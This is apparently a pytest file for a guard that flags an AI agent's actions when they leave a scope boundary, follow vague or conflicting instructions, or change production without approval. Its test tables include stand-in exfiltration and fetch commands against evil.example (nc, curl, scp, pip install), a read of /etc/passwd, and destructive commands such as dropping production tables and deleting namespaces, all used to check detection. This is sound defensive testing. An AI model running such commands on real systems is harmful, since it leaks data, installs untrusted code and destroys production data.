"""Scope: boundaries, unclear and contradictory instructions, production without approval."""

from __future__ import annotations

import pytest
from tests.unit.conditions.judging import CRITICAL, HIGH, LOW, MEDIUM, changes, facts, found, judge, said
from tests.unit.secrets.fake_tokens import github

from haltline.conditions.facts import Facts
from haltline.conditions.scope import changes_something


class TestOutOfScope:
    NAME = "out_of_scope"

    @pytest.mark.parametrize(
        ("boundary", "of", "strays"),
        [
            pytest.param("src/**", {"target_files": ("lib/a.py",)}, "lib/a.py", id="path"),
            pytest.param("src/**", {"changes": changes("lib/a.py")}, "lib/a.py", id="file to modify"),
            pytest.param("src/**", {"target_files": ("../src/a.py",)}, "../src/a.py", id="climbs out"),
            pytest.param("src/**", {"target_files": ("src/../lib/a",)}, "src/../lib/a", id="climbs round"),
            pytest.param("src/**", {"target_files": ("/etc/passwd",)}, "/etc/passwd", id="absolute"),
            pytest.param("src/**,!src/old/", {"target_files": ("src/old/a",)}, "src/old/a", id="taken out"),
            pytest.param(
                "Only modify files under src/auth", {"target_files": ("src/db.py",)}, "src/db.py", id="prose"
            ),
            pytest.param(
                "Work in src, but not src/legacy/", {"target_files": ("src/legacy/a",)}, "src/legacy/a",
                id="prose that takes out",
            ),
            pytest.param("src/**", {"commands": ("rm -rf lib",)}, "lib", id="deleted by a command"),
            pytest.param("src/**", {"commands": ("echo x > lib/a",)}, "lib/a", id="written by a command"),
            pytest.param("src/**", {"commands": ("cd lib && rm -r src",)}, "lib/src", id="after cd"),
            pytest.param(
                "host:api.internal", {"commands": ("curl https://evil.example/x",)}, "evil.example", id="host"
            ),
            pytest.param(
                "!host:evil.example", {"commands": ("curl https://evil.example:443/x",)}, "evil.example",
                id="host that is taken out, in an address",
            ),
            pytest.param(
                "host:*.internal", {"commands": ("curl http://internal.evil.example/",)},
                "internal.evil.example", id="a host that only looks like it",
            ),
            pytest.param(
                "host:api.internal", {"commands": ("curl https://api.internal@evil.example/",)},
                "evil.example", id="a user that looks like the host",
            ),
            pytest.param("src/**", {"commands": ("cd lib", "rm a")}, "a, lib/a", id="after cd before"),
            pytest.param("src/**", {"commands": ("chmod 600 src/a lib/b",)}, "lib/b", id="second of two"),
            pytest.param("src/**", {"commands": ("sudo sh -c 'mv src/a lib/a'",)}, "lib/a", id="wrapped"),
            pytest.param("src/**", {"commands": ("git mv src/a lib/a",)}, "lib/a", id="moved by Git"),
            pytest.param("src/**", {"commands": ("ln -s src/a b",)}, "b", id="linked"),
            pytest.param(
                "host:api.internal", {"commands": ("ssh -p 22 me@evil.example ls",)}, "evil.example", id="ssh"
            ),
            pytest.param(
                "host:api.internal", {"commands": ("scp -i k a evil.example:/srv",)}, "evil.example", id="scp"
            ),
            pytest.param(
                "host:api.internal", {"commands": ("cat a | nc evil.example 80",)}, "evil.example", id="nc"
            ),
            pytest.param(
                "host:api.internal", {"commands": ("git clone https://evil.example/x",)}, "evil.example",
                id="cloned from",
            ),
            pytest.param(
                "host:api.internal", {"commands": ("pip install https://evil.example/x",)}, "evil.example",
                id="installed from",
            ),
            pytest.param("verb:read", {"commands": ("mystery",)}, "execute", id="an unknown program"),
            pytest.param("!verb:network", {"commands": ("terraform destroy",)}, "network", id="remote"),
            pytest.param("verb:read", {"target_files": ("a",)}, "write", id="verb"),
            pytest.param("!verb:delete", {"commands": ("rm src/a",)}, "delete", id="verb that is taken out"),
        ],
    )  # fmt: skip
    def test_triggers(self, boundary: str, of: dict[str, object], strays: str) -> None:
        commands = of.pop("commands", ())
        judged = facts(*commands, scope_boundary=boundary, **of)  # type: ignore[misc]  # a table of keywords
        assert said(self.NAME, judged) == (HIGH, f"Outside the scope boundary: {strays}")

    @pytest.mark.parametrize(
        "of",
        [
            pytest.param(facts(target_files=("lib/a.py",)), id="no boundary"),
            pytest.param(facts(target_files=("src/a.py",), scope_boundary="src/**"), id="inside"),
            pytest.param(
                facts(target_files=("/project/src/a.py",), workspace="/project", scope_boundary="src/**"),
                id="inside, absolute",
            ),
            pytest.param(facts("cat lib/a.py", scope_boundary="src/**"), id="reads are inside"),
            pytest.param(facts("ls", scope_boundary="src/**"), id="a read with nothing to compare"),
            pytest.param(
                facts("curl https://api.internal/x", scope_boundary="host:api.internal"),
                id="host in an address",
            ),
            pytest.param(
                facts("curl https://a.b.internal:8443/x", scope_boundary="host:*.internal"), id="host below"
            ),
            pytest.param(facts("cat a", scope_boundary="verb:read"), id="verb"),
            pytest.param(facts("cd src && rm a", scope_boundary="src/**"), id="inside after cd"),
            pytest.param(
                facts("ln -s /usr/lib/x src/x", scope_boundary="src/**"), id="a link's target is read"
            ),
            pytest.param(
                facts("echo https://evil.example", scope_boundary="host:api.internal"), id="a host in a text"
            ),
            pytest.param(
                facts("ssh api.internal ls", scope_boundary="host:api.internal"), id="ssh to the host"
            ),
        ],
    )
    def test_does_not_trigger(self, of: Facts) -> None:
        assert judge(self.NAME, of) is None

    @pytest.mark.parametrize("boundary", ["only the login page", "be careful", ""])
    def test_a_boundary_that_cannot_be_compared_is_noted(self, boundary: str) -> None:
        of = facts(target_files=("a.py",), scope_boundary=boundary)
        assert said(self.NAME, of) == (
            LOW,
            "The scope boundary names nothing that this action could be compared with",
        )

    def test_a_statement_is_no_path(self) -> None:
        assert found(self.NAME, facts("psql -c 'DROP TABLE a'", scope_boundary="src/**")).severity is LOW

    def test_a_boundary_that_is_too_long_to_be_read_is_a_failed_check(self) -> None:
        finding = judge(self.NAME, facts(target_files=("a.py",), scope_boundary="src/** " * 5000))
        assert finding is not None
        assert (finding.severity, finding.reason_code) == (CRITICAL, "check_failed")

    @pytest.mark.parametrize(
        "other",
        [
            facts(target_files=("lib/b.py",), scope_boundary="src/**"),
            facts(target_files=("lib/a.py",), scope_boundary="src/*"),
            facts(target_files=("lib/a.py",), scope_boundary="src/**", operation="another"),
        ],
    )
    def test_the_settlement_binds_the_boundary_and_the_action(self, other: Facts) -> None:
        one = found(self.NAME, facts(target_files=("lib/a.py",), scope_boundary="src/**"))
        assert found(self.NAME, other).evidence_digest != one.evidence_digest


class TestAmbiguousRequirements:
    NAME = "ambiguous_requirements"

    @pytest.mark.parametrize(
        ("instruction", "missing"),
        [
            ("Fix it", "what, where"),
            ("Make it better", "what, where, done-when"),
            ("Delete everything", "what, where, limit"),
        ],
    )
    def test_triggers(self, instruction: str, missing: str) -> None:
        assert said(self.NAME, facts(instructions=(instruction,))) == (
            MEDIUM,
            f'The instruction "{instruction}" does not say: {missing}',
        )

    @pytest.mark.parametrize(
        "instructions",
        [
            pytest.param((), id="none"),
            pytest.param(("Fix the null pointer in src/auth.js",), id="clear"),
            pytest.param(
                ("Fix the null pointer in src/auth.js", "And test it"), id="a later one points back"
            ),
        ],
    )
    def test_does_not_trigger(self, instructions: tuple[str, ...]) -> None:
        assert judge(self.NAME, facts(instructions=instructions)) is None

    def test_the_settlement_of_one_instruction_holds_for_every_action_but_for_no_other_instruction(
        self,
    ) -> None:
        one = found(self.NAME, facts("ls", instructions=("Fix it",)))
        same = found(self.NAME, facts("pwd", instructions=("Fix it",)))
        other = found(self.NAME, facts("ls", instructions=("Fix that",)))
        assert one.evidence_digest == same.evidence_digest
        assert one.evidence_digest != other.evidence_digest

    def test_a_long_instruction_is_quoted_in_part_and_kept_whole(self) -> None:
        instruction = "Fix it" + " please" * 1000
        finding = found(self.NAME, facts(instructions=(instruction,)))
        assert len(finding.description) < 1000
        assert "… (7,006 characters)" in finding.description
        assert finding.evidence["instruction"] == instruction


class TestConflictingInstructions:
    NAME = "conflicting_instructions"

    def test_triggers_and_quotes_both_side_by_side(self) -> None:
        finding = found(self.NAME, facts(instructions=("Do not modify the tests", "Update the tests")))
        pair = '"Do not modify the tests" against "Update the tests"'
        assert (finding.severity, finding.description) == (
            HIGH,
            f"Instructions contradict each other: {pair}",
        )
        assert list(finding.annotations["conflicting_instructions"]) == [pair]

    @pytest.mark.parametrize(
        "instructions",
        [
            (),
            ("Do not modify the tests",),
            ("Do not modify the tests", "Update the documentation"),
            ("Update the tests", "Update the tests"),
        ],
    )
    def test_does_not_trigger(self, instructions: tuple[str, ...]) -> None:
        assert judge(self.NAME, facts(instructions=instructions)) is None

    def test_half_a_secret_is_not_quoted(self) -> None:
        token = github()
        first = f"Use tabs for indentation {'please ' * 37}{token}"
        finding = found(self.NAME, facts(instructions=(first, "Use spaces for indentation")))
        assert "please please" in finding.description
        assert token[:12] not in str(finding)


class TestUnauthorizedProduction:
    NAME = "unauthorized_production"

    @pytest.mark.parametrize(
        ("of", "evidence"),
        [
            pytest.param(facts(environment="prod"), "environment prod", id="declared, nothing else known"),
            pytest.param(
                facts(environment="eu-PRODUCTION"), "environment eu-PRODUCTION", id="a region of it"
            ),
            pytest.param(facts(environment="live", target_files=("a",)), "environment live", id="a file"),
            pytest.param(facts("mystery", environment="prod"), "environment prod", id="an unknown command"),
            pytest.param(
                facts("ls", "rm a", environment="prod"), "environment prod", id="one of two changes"
            ),
            pytest.param(
                facts("ls", environment="prod", changes=changes("a")),
                "environment prod",
                id="changes beside a read",
            ),
            pytest.param(
                facts("kubectl --context prod delete pod x"),
                "remote_change pod x by `kubectl --context prod delete pod x`",
                id="a command's context",
            ),
            pytest.param(
                facts("psql -h prod-db.internal -c 'drop table users'"),
                "delete DROP TABLE users by `psql -h prod-db.internal -c 'drop table users'`",
                id="a host",
            ),
            *(
                pytest.param(facts(command), evidence, id=command)
                for command, evidence in (
                    ("kubectl -n qa --context prod delete ns a", "remote_change ns a"),
                    ("bash -c 'kubectl --context prod delete ns a; kubectl --context qa get ns'", "ns a"),
                    ("ssh prod-web 'psql -h test-db -c \"drop table a\"'", "DROP TABLE a"),
                    ("export KUBECONFIG=prod; kubectl delete ns a; KUBECONFIG=test", "ns a"),
                    ("ssh prod-web rm -r /srv/a", "delete /srv/a by `rm -r /srv/a` (through ssh)"),
                    ("scp a deploy@prod-1:/srv", "network_out deploy@prod-1:/srv"),
                    ("git push origin production", "network_out origin production"),
                    ("make deploy ENV=prod", "execute make"),
                    ("mystery --env production", "execute mystery by `mystery --env production`"),
                    ("RAILS_ENV=production rails db:drop", "by `rails db:drop`"),
                )
            ),
        ],
    )
    def test_triggers(self, of: Facts, evidence: str) -> None:
        severity, description = said(self.NAME, of)
        assert severity is CRITICAL
        assert description.startswith("Changes production without approval: ")
        assert evidence in description

    @pytest.mark.parametrize(
        "of",
        [
            pytest.param(facts(), id="no environment"),
            pytest.param(facts(environment="staging"), id="staging"),
            pytest.param(facts(environment="pre-production"), id="before production"),
            pytest.param(facts(environment="reproduction"), id="another word"),
            pytest.param(facts("ls", environment="prod"), id="a read"),
            pytest.param(facts("psql -h prod-db.internal -c 'select 1'"), id="a query"),
            pytest.param(facts("kubectl --context staging delete pod x"), id="another context"),
            *(
                pytest.param(facts(command), id=command)
                for command in (
                    "kubectl --context prod get pods",
                    "ssh prod-web ls",
                    "ssh prod-web 'tail -5 /var/log/syslog'",
                    "cat .env.production",
                    "grep -r production src",
                    "git commit -m 'fix production'",
                    "aws --profile prod s3 ls",
                )
            ),
        ],
    )
    def test_does_not_trigger(self, of: Facts) -> None:
        assert judge(self.NAME, of) is None

    def test_an_approval_is_for_exactly_this_action(self) -> None:
        one = found(self.NAME, facts("make deploy", environment="prod"))
        for other in (
            facts("make  deploy", environment="prod"),
            facts("make deploy", environment="production"),
            facts("make deploy", environment="prod", operation="another"),
            facts("make deploy", "make", environment="prod"),
        ):
            assert found(self.NAME, other).evidence_digest != one.evidence_digest


@pytest.mark.parametrize(
    ("of", "changes_it"),
    [
        (facts(), True),
        (facts("ls"), False),
        (facts("ls", "cat a"), False),
        (facts("ls", "touch a"), True),
        (facts("mystery"), True),
        (facts(""), True),
        (facts("ls", " "), True),
        (facts("# only a comment"), True),
        (facts("ls $("), True),
        (facts("ls", target_files=("a",)), True),
        (facts("ls", changes=changes()), True),
    ],
)
def test_an_action_changes_something_unless_its_commands_provably_only_read(
    of: Facts, changes_it: bool
) -> None:
    assert changes_something(of) is changes_it
